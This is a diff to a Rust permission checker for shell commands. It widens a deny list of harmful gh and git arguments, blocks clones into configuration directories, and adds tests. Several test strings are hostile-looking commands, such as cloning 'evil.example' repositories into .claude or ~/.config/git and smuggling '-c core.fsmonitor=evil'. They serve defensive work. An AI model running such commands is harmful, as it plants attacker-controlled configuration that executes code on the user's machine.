@@ -17,8 +17,8 @@ struct Program {
     letters: &'static str,
 }
 
-/// Arguments of `gh` that write files to any directory, unpack files of others, or run the hooks of a repository.
-const HARMFUL_FOR_GH: [&str; 6] = ["-D", "-O", "--dir", "--output", "--push", "download"];
+/// Arguments of `gh` that write files to any directory, unpack or check out files of others, or run the hooks of a repository.
+const HARMFUL_FOR_GH: [&str; 7] = ["-D", "-O", "--dir", "--output", "--push", "checkout", "download"];
 
 /// Programs that skills commonly declare with subcommands or options. The user is always asked about the
 /// programs in [`ALWAYS_ASKED`], because lists for all of these would not be worth the effort.
@@ -27,7 +27,7 @@ const PROGRAMS: &[Program] = &[
         names: &["git"],
         needs_subcommand: true,
         harmful_subcommands: "bisect config credential daemon difftool filter-branch for-each-repo hook instaweb mergetool p4 \
-                              remote remote-ext remote-fd send-email submodule svn",
+                              remote remote-ext remote-fd send-email submodule svn worktree",
         options: "--abbrev-commit --all --amend --after --author --before --branch --branches --cached --color --count --date \
                   --decorate --diff-filter --dry-run --first-parent --fixed-strings --follow --force-with-lease --format \
                   --graph --grep --ignore-case --line-number --max-count --merges --message --name-only --name-status \
@@ -167,7 +167,9 @@ pub(super) fn says_what_runs(pattern: &str, command: &str) -> bool {
             // The hooks of a repository run when someone pushes to it.
             let pushes = program.names.contains(&"git") && subcommand == Some(&"push");
             let is_known = !pushes || has_known_remote(&literal_words[2..], arguments);
-            named && is_known && arguments.iter().all(|word| program.allows(word))
+            let clones = ["git", "gh"].iter().any(|name| program.names.contains(name));
+            let is_beside = !clones || clones_beside(&literal_words, arguments);
+            named && is_known && is_beside && arguments.iter().all(|word| program.allows(word))
         }
     }
 }
@@ -177,6 +179,28 @@ pub(super) fn says_what_runs(pattern: &str, command: &str) -> bool {
 fn has_known_remote(in_pattern: &[&str], arguments: &[&str]) -> bool {
     let is_option = |word: &&str| word.starts_with('-');
     !in_pattern.iter().all(is_option) || arguments.iter().all(is_option)
+}
+
+/// Returns true if a command such as `git clone URL NAME` puts the files of others into a new directory beside the others of the project, or
+/// into a directory that the pattern names. They would be settings in a directory such as `.vscode` or `~/.config/git`.
+fn clones_beside(in_pattern: &[&str], arguments: &[&str]) -> bool {
+    let is_operand = |word: &&&str| !word.starts_with('-');
+    let after_clone = |words: &[&str]| {
+        let at = words.iter().position(|word| *word == "clone")?;
+        Some(words[at + 1..].iter().filter(is_operand).count())
+    };
+    let (operands, first) =
+        match (after_clone(in_pattern), arguments.iter().position(|word| *word == "clone")) {
+            // The first operand is the repository.
+            (Some(0), _) => (arguments, 1),
+            (Some(_), _) => (arguments, 0),
+            (None, Some(at)) => (&arguments[at + 1..], 1),
+            (None, None) => return true,
+        };
+    let is_name = |word: &str| {
+        !word.starts_with('.') && word.chars().all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
+    };
+    operands.iter().filter(is_operand).skip(first).all(|word| is_name(word))
 }
 
 /// Returns `command` as its program sees it: without the quotes, which the shell removes, and with `x` for each quoted wildcard,
@@ -272,6 +296,20 @@ mod tests {
             ("gh repo:*", "gh repo clone acme/x -- -c core.fsmonitor=evil", false),
             ("gh gist clone:*", "gh gist clone 1 x '--' --template=evil", false),
             ("gh repo:*", "gh repo clone acme/x -* x", false),
+            ("gh repo:*", "gh repo clone evil/cfg /home/me/.config/git", false),
+            ("gh repo clone:*", "gh repo clone acme/x", true),
+            ("gh repo clone:*", "gh repo clone evil/cfg .vscode", false),
+            ("gh repo clone acme/x:*", "gh repo clone acme/x ../y", false),
+            ("gh gist:*", "gh gist clone 123 .vscode", false),
+            ("gh pr:*", "gh pr checkout 7", false),
+            ("gh pr checkout:*", "gh pr checkout 7", true),
+            ("git clone:*", "git clone https://example.org/x", true),
+            ("git clone:*", "git clone --quiet https://example.org/x x", true),
+            ("git clone:*", "git clone https://evil.example/x ~/.config/git", false),
+            ("git clone:*", "git clone https://evil.example/x .claude", false),
+            ("git clone:*", "git clone https://evil.example/x a/.claude", false),
+            ("git clone:*", "git clone https://evil.example/x $HOME", false),
+            ("git worktree:*", "git worktree add .claude evil", false),
             ("gh api:*", "gh api repos/acme/x?page=2 --jq '*'", true),
             ("gh run:*", "gh run list", true),
             ("gh run:*", "gh run download 7 -R evil/evil", false),
